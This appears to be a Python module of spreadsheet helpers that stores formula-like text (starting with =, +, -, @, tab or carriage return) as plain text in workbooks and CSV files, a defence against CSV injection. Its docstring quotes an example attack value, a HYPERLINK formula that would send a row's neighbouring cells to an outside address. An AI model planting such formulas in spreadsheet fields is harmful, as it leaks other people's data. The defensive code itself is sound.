"""Helpers every workbook (and CSV file) the platform reads or writes shares.

People's text goes into the offices' spreadsheets; a spreadsheet reads a cell beginning with ``=`` (and, on import
into another program, ``+ - @``, a tab or a carriage return) as a formula. A major written as
``=HYPERLINK("http://…"&B3,"土木工程")`` became a live link that sends the row's neighbours away (issue 10, finding 5;
OWASP "CSV injection"). Every row the platform writes goes through :func:`append_row` (workbooks) or :func:`csv_row`
(CSV), so such text is always written as text.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook
from openpyxl.utils import get_column_letter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def column_letter(index: int) -> str:
    """The Excel column (A, B, … AA) of a 0-based index."""
    return get_column_letter(index + 1)


def formula_like(value: object) -> bool:
    """Text a spreadsheet program could take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def append_row(ws: Any, values: Iterable[object]) -> None:
    """Append ``values`` as the sheet's next row, text that looks like a formula kept as text: the cell is a string
    cell with Excel's quote prefix (what typing ``'`` before it does), so neither reading nor editing runs it."""
    ws.append(list(values))
    for cell in ws[ws.max_row]:
        if formula_like(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True


def csv_cell(value: object) -> str:
    """One CSV field: text that looks like a formula starts with ``'``, which spreadsheet programs show as text."""
    text = "" if value is None else str(value)
    return f"'{text}" if formula_like(text) else text


def csv_row(values: Iterable[object]) -> list[str]:
    """A row for ``csv.writer.writerow`` with every field made safe by :func:`csv_cell`."""
    return [csv_cell(v) for v in values]


class ImportProblem(ValueError):
    """A workbook that cannot be read at all."""


def template_workbook(title: str, headers: Iterable[object], notes: Iterable[tuple[str, str]]) -> bytes:
    """An empty workbook in an import's layout: the headers on the first sheet, what each column takes on a second
    (填写说明) — the one shape every import's template has, so that the offices meet one kind of template."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = title
    append_row(ws, headers)
    sheet = wb.create_sheet("填写说明")
    append_row(sheet, ["列", "填写"])
    for column, what in notes:
        append_row(sheet, [column, what])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()
